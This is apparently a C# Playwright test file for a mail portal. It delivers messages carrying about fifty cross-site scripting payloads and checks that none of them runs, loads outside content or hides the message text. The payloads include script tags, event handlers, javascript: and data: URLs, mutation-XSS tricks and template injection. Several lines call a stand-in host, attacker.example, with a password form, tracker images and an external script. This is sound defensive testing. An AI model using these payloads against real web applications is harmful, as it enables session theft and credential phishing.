using MailFunctions.Tests.Infrastructure;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace MailFunctions.Tests.Portal;

/// <summary>Mail that wants to run in the browser of who reads it: in subject, sender, HTML, attachments' names and header.</summary>
public sealed class HostileMailTests(Product product, PortalBrowser browser) : PortalTest(product, browser)
{
    private const string Hack = "top.hacked=parent.hacked=window.hacked=1,alert(1)";

    private const string ActiveParts = """
        () => [...document.querySelectorAll("*")].flatMap(element => [
          ...(/^(script|iframe|object|embed|form|input|button|link|base|svg|math|template)$/i.test(element.localName) ? [element.localName] : []),
          ...[...element.attributes].filter(({ name, value }) => /^on/i.test(name) || /^[\s\x00-\x20]*(javascript|vbscript):/i.test(value)).map(({ name }) => name),
        ])
        """;

    private static readonly string[] Payloads =
    [
        $"<script>{Hack}</script>",
        $"<img src=x onerror=\"{Hack}\">",
        $"<svg onload=\"{Hack}\">",
        $"<svg><script>{Hack}</script></svg>",
        $"<svg><animate onbegin=\"{Hack}\" attributeName=x dur=1s>",
        $"<body onload=\"{Hack}\">",
        $"<iframe src=\"javascript:{Hack}\"></iframe>",
        $"<iframe srcdoc=\"<script>{Hack}</script>\"></iframe>",
        $"<object data=\"javascript:{Hack}\"></object>",
        $"<embed src=\"data:text/html,<script>{Hack}</script>\">",
        $"<a href=\"javascript:{Hack}\">link</a>",
        $"<a href=\"JaVaScRiPt:{Hack}\">link</a>",
        $"<a href=\" &#1; javascript:{Hack}\">link</a>",
        $"<a href=\"data:text/html,<script>{Hack}</script>\">link</a>",
        $"<a href=\"vbscript:{Hack}\">link</a>",
        $"<form action=\"javascript:{Hack}\"><button>go</button></form>",
        "<form action=\"https://attacker.example/\"><input name=password autofocus></form>",
        $"<button formaction=\"javascript:{Hack}\">go</button>",
        $"<input autofocus onfocus=\"{Hack}\">",
        $"<details open ontoggle=\"{Hack}\"><summary>x</summary></details>",
        $"<video><source onerror=\"{Hack}\"></video>",
        $"<audio src=x onerror=\"{Hack}\"></audio>",
        $"<marquee onstart=\"{Hack}\">x</marquee>",
        $"<div style=\"background:url(javascript:{Hack})\">x</div>",
        "<div style=\"background:url(https://attacker.example/b.png)\">x</div>",
        "<style>@import 'https://attacker.example/s.css';</style>",
        "<style>body{background:url(https://attacker.example/c.png)}</style>",
        "<link rel=stylesheet href=https://attacker.example/s.css>",
        "<link rel=prefetch href=https://attacker.example/p>",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Hack}\">",
        "<meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
        "<base href=https://attacker.example/><img src=relative.png>",
        "<img src=https://attacker.example/tracker.png>",
        "<img srcset=\"https://attacker.example/tracker2.png 1x\">",
        "<picture><source srcset=https://attacker.example/t.webp><img></picture>",
        "<table background=https://attacker.example/t.png><tr><td>x</td></tr></table>",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Hack}&gt;\">",
        $"<noscript><p title=\"</noscript><img src=x onerror={Hack}>\">",
        $"<template><script>{Hack}</script></template>",
        $"<textarea><img title=\"</textarea><img src=x onerror={Hack}>\"></textarea>",
        $"<svg></p><style><a id=\"</style><img src=x onerror={Hack}>\">",
        $"--><img src=x onerror={Hack}>",
        $"\"><script>{Hack}</script>",
        $"';{Hack};//",
        "{{constructor.constructor('top.hacked=1')()}}",
        "${top.hacked=1}",
        $"<img src=\"x` `<script>{Hack}</script>\"` `>",
        $"<x onclick=\"{Hack}\" tabindex=1 autofocus onfocus=\"{Hack}\">x</x>",
        $"<a href=\"//attacker.example\" ping=\"https://attacker.example/ping\">link</a><script src=//attacker.example/x.js></script>",
        $"\u202e<img src=x onerror={Hack}>",
    ];

    [Fact]
    public async Task Nothing_runs_nothing_is_loaded_and_all_of_it_can_be_read()
    {
        var mailbox = Product.Dovecot.CreateMailbox();
        foreach (var (index, payload) in Payloads.Index())
        {
            await mailbox.DeliverAsync(Scenery.Letter($"{index} {payload}", $"<p>readable {index}</p>{payload}", $"{payload}.csv", $"{index} {payload}"));
        }

        var id = (int)(await Api.CreateAccountAsync(mailbox, ConnectionKind.ImapSsl))["id"]!;
        await Api.CheckAsync(id);
        var messages = await Api.InboxAsync(id);
        messages.Count.ShouldBe(Payloads.Length);
        var screen = await OpenAsync(new() { Path = $"/accounts/{id}/inbox" });
        var page = screen.Page;
        page.Dialog += (_, dialog) => throw new InvalidOperationException("A dialog: " + dialog.Message);
        await Expect(page.GetByRole(AriaRole.List, new() { Name = "Messages" })).ToBeVisibleAsync();

        foreach (var message in messages)
        {
            await page.GotoAsync($"/accounts/{id}/inbox/{message["id"]}");
            await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 2 })).ToHaveTextAsync((string)message["subject"]!);
            await Expect(page.FrameLocator("iframe").GetByText("readable")).ToBeVisibleAsync();
            var where = (string)message["subject"]!;
            foreach (var frame in page.Frames)
            {
                (await frame.EvaluateAsync<bool>("() => 'hacked' in window")).ShouldBeFalse(where);
            }

            // That the frame runs nothing is the second line: there is nothing left to run.
            (await page.Frames[1].EvaluateAsync<string[]>(ActiveParts)).ShouldBeEmpty(where);
            page.Url.ShouldStartWith(Product.App.Address.ToString(), Case.Sensitive, where);
        }
    }
}
